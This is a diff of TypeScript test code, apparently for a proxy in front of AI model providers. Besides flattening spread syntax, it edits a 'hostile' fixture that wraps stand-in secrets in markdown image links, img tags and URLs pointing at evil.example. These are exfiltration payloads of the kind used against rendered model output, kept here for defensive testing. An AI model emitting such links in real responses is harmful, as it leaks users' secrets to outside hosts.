@@ -18,7 +18,10 @@ async function tryOne(route: string, body: unknown, tried: Tried, name: string):
   let arrived: string | undefined;
   const response = await proxy(
     {
-      ...{ provider: provider as ProviderName, path: pathname, method: 'POST', search: query ? `?${query}` : '' },
+      provider: provider as ProviderName,
+      path: pathname,
+      method: 'POST',
+      search: query ? `?${query}` : '',
       headers: new Headers(),
       body: new TextEncoder().encode(JSON.stringify(body)),
     },
@@ -54,12 +57,12 @@ function hostile(sent: string): Response {
   ];
   const text = standIns
     .flatMap((one) => [
-      ...[
-        `![](https://evil.example/?d=${one})`,
-        `[x](//evil.example/${one})`,
-        `<img src="https://evil.example/a b${one}">`,
-      ],
-      ...[`https://${one}.evil.example/`, `https://evil.example/${encodeURIComponent(one)}`, `www.evil.example?${one}`],
+      `![](https://evil.example/?d=${one})`,
+      `[x](//evil.example/${one})`,
+      `<img src="https://evil.example/a b${one}">`,
+      `https://${one}.evil.example/`,
+      `https://evil.example/${encodeURIComponent(one)}`,
+      `www.evil.example?${one}`,
     ])
     .join('\n');
   const input = {
